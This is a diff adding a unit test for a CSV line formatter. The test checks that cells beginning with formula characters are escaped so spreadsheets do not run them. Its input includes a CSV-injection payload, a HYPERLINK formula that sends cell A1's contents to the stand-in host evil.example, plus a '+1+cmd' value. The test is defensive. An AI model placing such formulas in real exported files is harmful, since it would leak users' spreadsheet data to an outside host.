@@ -9,4 +9,18 @@ describe("formatCsvLine", () => {
       '"with,comma","with ""quotes""","line\nbreak","carriage\rreturn"',
     );
   });
+
+  it("keeps spreadsheets from running client-supplied text as formulas", () => {
+    expect(
+      formatCsvLine([
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+cmd",
+        "-2+3",
+        "@SUM(A1)",
+        "\tx",
+      ]),
+    ).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+1+cmd,\'-2+3,\'@SUM(A1),\'\tx');
+    // Numbers, and text that only holds such a character later, stay as they are.
+    expect(formatCsvLine([-5, "req-1", "a=b", "0.000026"])).toBe("-5,req-1,a=b,0.000026");
+  });
 });
